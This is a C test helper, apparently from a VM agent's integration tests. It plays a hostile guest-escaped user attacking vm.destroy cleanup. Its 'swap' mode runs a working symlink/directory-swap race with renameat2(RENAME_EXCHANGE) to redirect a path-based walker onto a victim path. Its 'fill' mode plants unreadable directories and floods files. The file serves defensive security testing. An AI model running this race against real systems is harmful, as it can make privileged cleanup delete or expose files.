/*
 * TEST ONLY: what a VM's host user (a member who escaped their guest) runs against the agent
 * during vm.destroy and the create-failure cleanup (destroy.itest.ts, security checks 25 and 41).
 * Compiled by the test with gcc; run as the VM's uid through setpriv with an argument array.
 * Every path is relative to the directory it enters, so it keeps working after the directory's
 * ancestors are closed to it. Errors are ignored: it retries until killed.
 *
 *   member-attacker swap <dir> <victim> <pairs> [<plant>]
 *       waits until it can enter <dir>, creates <plant> there as a directory when given (so a
 *       vm.create fails and its cleanup runs), then forever: per pair i a directory a<i> (with a
 *       file inside) and a symlink s<i> -> <victim>, swapped with renameat2(RENAME_EXCHANGE), so a
 *       path-based walker that lstat'ed a<i> as a directory then reads the victim through it.
 *   member-attacker fill <dir>
 *       waits until it can enter <dir>, makes a directory with contents unreadable (mode 000),
 *       then forever creates directories with files in them.
 *
 * Prints "ready\n" on stdout once it is in <dir>.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void enter(const char *dir) {
  while (chdir(dir) != 0) usleep(200);
  fputs("ready\n", stdout);
  fflush(stdout);
}

static void touch(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_NOFOLLOW, 0600);
  if (fd >= 0) close(fd);
}

int main(int argc, char **argv) {
  char a[64], s[64], f[96];
  if (argc >= 5 && strcmp(argv[1], "swap") == 0) {
    const char *victim = argv[3];
    int pairs = atoi(argv[4]);
    enter(argv[2]);
    if (argc >= 6) mkdir(argv[5], 0700);
    for (;;) {
      for (int i = 0; i < pairs; i++) {
        snprintf(a, sizeof a, "a%d", i);
        snprintf(s, sizeof s, "s%d", i);
        snprintf(f, sizeof f, "a%d/f", i);
        mkdir(a, 0700);
        touch(f);
        symlink(victim, s);
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, s, RENAME_EXCHANGE);
      }
    }
  }
  if (argc >= 3 && strcmp(argv[1], "fill") == 0) {
    enter(argv[2]);
    /* A directory with contents that the owner made unreadable, so a plain find -delete cannot empty it. */
    mkdir("locked", 0700);
    mkdir("locked/inner", 0700);
    touch("locked/inner/f");
    chmod("locked/inner", 0);
    chmod("locked", 0);
    for (unsigned long n = 0;; n++) {
      snprintf(a, sizeof a, "d%lu", n % 64);
      mkdir(a, 0700);
      snprintf(f, sizeof f, "d%lu/f%lu", n % 64, n);
      touch(f);
      snprintf(f, sizeof f, "f%lu", n % 4096);
      touch(f);
    }
  }
  fputs("usage: member-attacker swap <dir> <victim> <pairs> [<plant>] | fill <dir>\n", stderr);
  return 2;
}
